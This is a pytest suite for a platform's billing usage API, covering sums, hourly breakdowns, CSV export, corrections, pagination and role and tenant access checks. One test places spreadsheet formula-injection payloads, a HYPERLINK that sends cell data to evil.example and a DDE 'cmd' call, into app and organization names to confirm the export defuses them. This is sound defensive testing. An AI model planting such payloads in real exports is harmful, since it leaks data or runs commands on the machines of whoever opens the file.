"""Usage over the API: sums, hours, what is behind an hour, the file; and who may see which."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from fractions import Fraction
from typing import Any

import pytest
from api_under_test import Api
from billing_house import House

from skypanel.apps.models import App
from skypanel.billing.csv_rows import COLUMNS, harmless
from skypanel.billing.usage import PORTION, UsageFilter, exported
from skypanel.orgs.models import Organization
from skypanel.orgs.plans import get_plan

GB = 1_000_000_000


@pytest.fixture
def house(api: Api) -> House:
    return House(api)


def billed(house: House, hours: int = 1) -> None:
    house.world.until_billed(house.world.clock.now().replace(minute=0, second=0) + timedelta(hours=hours))


def micro(amount: str) -> int:
    return int(Fraction(amount) * 1_000_000)


def test_sums_are_of_the_month_dearest_first_and_a_deleted_application_stays(house: House) -> None:
    cheap = house.ran(minutes=30)
    dear = house.ran(minutes=30, plan="standard")
    billed(house)
    with house.api.database.transaction() as session:
        app = session.get_one(App, dear)
        app.deleted_at, app.slug = house.world.clock.now(), f"deleted/x/{app.slug}"
    found = house.usage()
    assert (found["from"], found["to"]) == ("2026-03-01T00:00:00.000000Z", "2026-04-01T00:00:00.000000Z")
    shown = ("app", "plan", "hours", "replica_seconds", "cost", "deleted")
    assert [tuple(item[name] for name in shown) for item in found["items"]] == [
        (dear, "standard", 1, 1800, "0.01735", True), (cheap, "hobby", 1, 1800, "0.00345", False),
    ]  # fmt: skip
    assert (found["total"], found["currency"]) == ("0.0208", "USD")
    assert [i["app_id"] for i in house.usage(app=cheap)["items"]] == [cheap]
    assert [i["app_id"] for i in house.usage(plan="standard")["items"]] == [dear]
    assert house.usage(**{"from": "2026-03-02"})["items"] == []
    assert house.usage(**{"from": "2026-02-01", "to": "2026-03-01"})["total"] == "0.00"
    assert house.usage(to="2026-04-01")["total"] == "0.0208"
    ranges = {"from": "2026-03-01T11:00:00+01:00", "to": "2026-03-01T11:00:00Z"}
    assert house.usage(**ranges)["total"] == "0.0208"


@pytest.mark.parametrize(
    "asked",
    [
        {"from": "yesterday"}, {"from": "2026-03-02", "to": "2026-03-01"}, {"from": "0001-01-01T00:00:00+14:00"},
        {"to": "9999-12-31T23:00:00-12:00"}, {"from": "2026-03-01T00:00:01"}, {"format": "xml"},
    ],
)  # fmt: skip
def test_a_range_that_is_none_is_refused(house: House, asked: dict[str, str]) -> None:
    for path in ("/api/paas/usage", "/api/paas/usage/hours"):
        if "format" not in asked or path.endswith("usage"):
            assert house.ada.get(path, params=asked).status_code == 422, asked


def test_hours_page_and_lead_to_the_intervals_that_make_the_amount(house: House) -> None:
    world = house.world
    with house.api.database.transaction() as session:
        for slug in ("hobby", "standard"):
            get_plan(session, slug).storage_price_micro = 5_000
    app = world.app(house.organization)
    world.slug(app, 2 * GB)
    first = world.start(app)
    world.advance(minutes=20, seconds=7)
    world.stop(first)
    world.change_plan(app, "standard")
    world.start(app)
    world.advance(hours=2)
    world.bill()
    asked = {"app": app, "limit": 1}
    page = house.ada.get("/api/paas/usage/hours", params=asked).json()
    seen = page["items"]
    while page["next_cursor"]:
        page = house.ada.get("/api/paas/usage/hours", params=asked | {"cursor": page["next_cursor"]}).json()
        seen += page["items"]
    assert [(i["hour"][11:13], i["plan"]) for i in seen] == [("11", "standard"), ("10", "standard"), ("10", "hobby")]
    behind = house.ada.get(f"/api/paas/apps/{app}/usage/{seen[-1]['hour']}").json()
    assert [(i["plan"], i["seconds"]) for i in behind["intervals"]] == [("hobby", 1207), ("standard", 2393)]
    assert [(i["process"], i["from"][14:19]) for i in behind["intervals"]] == [("web.1", "00:00"), ("web.1", "20:07")]
    assert recomputed(behind) == {charge["plan"]: micro(charge["cost"]) for charge in behind["charges"]}
    assert micro(behind["cost"]) == sum(recomputed(behind).values())


def recomputed(hour: dict[str, Any]) -> dict[str, int]:
    """As docs/billing.md tells people to: from the intervals, the kept releases and the prices alone."""
    found: dict[str, int] = {}
    terms = sorted(hour["terms"], key=lambda each: each["since"])
    ends = [each["since"] for each in terms[1:]] + [hour["to"]]
    for term, end in zip(terms, ends, strict=True):
        seconds = [
            (each["seconds"], micro(each["price_per_hour"]))
            for each in hour["intervals"]
            if each["plan"] == term["plan"]
        ]
        replicas = half_up(Fraction(sum(length * price for length, price in seconds), 3600))
        kept = sum(
            each["size_bytes"] * max(0, moment(min(each["to"], end)) - moment(max(each["from"], term["since"])))
            for each in hour["storage"]
        )
        found[term["plan"]] = replicas + half_up(Fraction(kept * micro(term["storage_price"]), 3600 * GB))
    return found


def half_up(value: Fraction) -> int:
    return int(value + Fraction(1, 2))


def moment(text: str) -> int:
    return int(datetime.fromisoformat(text).timestamp())


def test_an_hour_that_is_not_over_shows_what_ran_so_far(house: House) -> None:
    app = house.world.app(house.organization)
    house.world.start(app)
    house.world.advance(minutes=5)
    found = house.ada.get(f"/api/paas/apps/{app}/usage/2026-03-01T10:30:00Z").json()
    assert (found["charges"], found["cost"]) == ([], "0.00")
    assert [i["seconds"] for i in found["intervals"]] == [300]
    for hour, status in (("2026-02-01T10:00:00Z", 404), ("now", 422), ("0001-01-01T00:00:00+14:00", 422)):
        assert house.ada.get(f"/api/paas/apps/{app}/usage/{hour}").status_code == status


def test_a_deleted_applications_hour_is_there_by_its_id(house: House) -> None:
    app = house.ran()
    billed(house, 0)
    with house.api.database.transaction() as session:
        session.get_one(App, app).deleted_at = house.world.clock.now()
    assert house.ada.get(f"/api/paas/apps/{app}/usage/2026-03-01T10:00:00Z").json()["cost"] == "0.0069"


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_the_file_has_stable_columns_and_sums_to_what_the_wallet_paid(house: House) -> None:
    house.ran(minutes=7)
    app = house.ran(minutes=20)
    billed(house)
    rows = rows_of(house.ada.get("/api/paas/usage", params={"format": "csv"}))
    assert list(rows[0]) == list(COLUMNS)
    assert COLUMNS == (
        "hour", "organization_id", "organization", "organization_name", "app_id", "app", "app_name", "plan", "revision",
        "replica_seconds", "replica_cost", "storage_byte_seconds", "storage_cost", "log_bytes", "log_cost", "cost",
        "currency", "journal_id",
    )  # fmt: skip
    assert [(r["hour"], r["replica_seconds"], r["cost"]) for r in rows] == [
        ("2026-03-01T10:00:00Z", "420", "0.000805"), ("2026-03-01T10:00:00Z", "1200", "0.0023"),
    ]  # fmt: skip
    paid = 1_000_000_000 - house.world.balance(house.organization)
    assert sum(micro(r["cost"]) for r in rows) == paid
    only = house.ada.get("/api/paas/usage", params={"format": "csv", "app": app})
    assert [r["app_id"] for r in rows_of(only)] == [app]
    assert only.headers["content-disposition"] == 'attachment; filename="usage-2026-03-01-2026-04-01.csv"'
    assert rows_of(house.ada.get("/api/paas/usage", params={"format": "csv", "to": "2026-02-01"})) == []


def test_names_that_a_spreadsheet_would_compute_are_text_in_the_file(house: House) -> None:
    app = house.ran()
    billed(house, 0)
    evil = '=HYPERLINK("http://evil.example?x="&A1,"open")'
    with house.api.database.transaction() as session:
        session.get_one(App, app).name = evil
        session.get_one(Organization, house.organization).name = "@SUM(1+1)*cmd|' /C calc'!A0"
    (row,) = rows_of(house.ada.get("/api/paas/usage", params={"format": "csv"}))
    assert row["app_name"] == f"'{evil}"
    assert row["organization_name"].startswith("'@SUM")
    assert not [value for value in row.values() if value.startswith(("=", "+", "-", "@", "\t"))]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "  =1", "＝1"])
def test_every_beginning_of_a_formula_is_defused(text: str) -> None:
    assert harmless(text) == f"'{text}"


def test_other_names_stay_as_they_are() -> None:
    for text in ("shop", "a=b", "3-D", "", " shop", 'Ärger, "groß"'):
        assert harmless(text) == text


def test_a_correction_is_a_row_with_a_negative_number(house: House) -> None:
    app = house.world.app(house.organization)
    replica = house.world.start(app)
    house.world.advance(hours=1, minutes=10)
    house.world.bill()
    house.world.dies(replica, ago=timedelta(minutes=40))
    house.world.bill()
    rows = rows_of(house.ada.get("/api/paas/usage", params={"format": "csv"}))
    assert [(r["revision"], r["replica_seconds"], r["cost"]) for r in rows] == [
        ("0", "3600", "0.0069"), ("1", "-1800", "-0.00345"),
    ]  # fmt: skip


def test_portions_of_an_export_join_without_a_gap(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(5):
        house.ran(minutes=1)
    house.world.advance(hours=2)
    house.world.bill()
    whole = rows_of(house.ada.get("/api/paas/usage", params={"format": "csv"}))
    monkeypatch.setattr("skypanel.billing.usage.PORTION", 2)
    assert rows_of(house.ada.get("/api/paas/usage", params={"format": "csv"})) == whole
    assert len(whole) == 5
    assert PORTION == 1000
    with house.api.database.reading() as session:
        assert len(exported(session, UsageFilter(), organization_id=None)) == 2


def test_admins_see_all_organizations_and_nobody_else_does(house: House) -> None:
    house.ran(minutes=30)
    eve = house.api.register("eve@example.com", "Evil")
    house.organization = eve.organization["id"]
    house.ran(minutes=15)
    billed(house)
    admin = house.api.admin()
    found = admin.get("/api/admin/paas/usage").json()
    assert [(i["organization"], i["cost"]) for i in found["items"]] == [("engines", "0.00345"), ("evil", "0.001725")]
    assert found["total"] == "0.005175"
    first = admin.get("/api/admin/paas/usage", params={"limit": 1}).json()
    assert (len(first["items"]), first["total"]) == (1, "0.005175")
    rows = rows_of(admin.get("/api/admin/paas/usage", params={"format": "csv"}))
    assert sorted(r["organization"] for r in rows) == ["engines", "evil"]
    for asked in ({}, {"format": "csv"}):
        assert eve.get("/api/admin/paas/usage", params=asked).status_code == 403


def test_members_see_usage_and_only_owners_and_admins_take_the_file(house: House) -> None:
    app = house.ran(minutes=30)
    billed(house)
    for role, allowed in (("admin", True), ("developer", False), ("viewer", False)):
        person = house.api.join(house.ada, f"{role}@example.com", role)
        assert house.usage(person)["total"] == "0.00345"
        assert person.get(f"/api/paas/apps/{app}/usage/2026-03-01T10:00:00Z").status_code == 200
        file = person.get("/api/paas/usage", params={"format": "csv"})
        assert (file.status_code == 200) is allowed, role


def test_nothing_of_another_organization_is_seen(house: House) -> None:
    app = house.ran(minutes=30)
    billed(house)
    eve = house.api.register("eve@example.com", "Evil")
    eve.headers = {"X-Organization-Id": eve.organization["id"]}
    assert house.usage(eve)["items"] == []
    assert house.usage(eve, app=app)["items"] == []
    assert rows_of(eve.get("/api/paas/usage", params={"format": "csv", "app": app})) == []
    assert eve.get("/api/paas/usage/hours", params={"app": app}).json()["items"] == []
    assert eve.get(f"/api/paas/apps/{app}/usage/2026-03-01T10:00:00Z").status_code == 404
    theirs = {"X-Organization-Id": house.organization}
    assert eve.get("/api/paas/usage", headers=theirs).status_code == 404


def test_a_cursor_that_is_none_of_ours_is_refused_or_shows_nothing(house: House) -> None:
    from skypanel.kit.paging import encode_cursor

    house.ran()
    billed(house, 0)
    for cursor in (
        "x", encode_cursor(1, "a"), encode_cursor(1e300, "a", "b", 0), encode_cursor("1", "a", "b", 0),
        encode_cursor(10**18, "a", "b", 10**18), encode_cursor(-(10**18), "a", "b", 0), encode_cursor(5, 5, 5, 5),
    ):  # fmt: skip
        answer = house.ada.get("/api/paas/usage/hours", params={"cursor": cursor})
        assert answer.status_code in (200, 422), (cursor, answer.text)
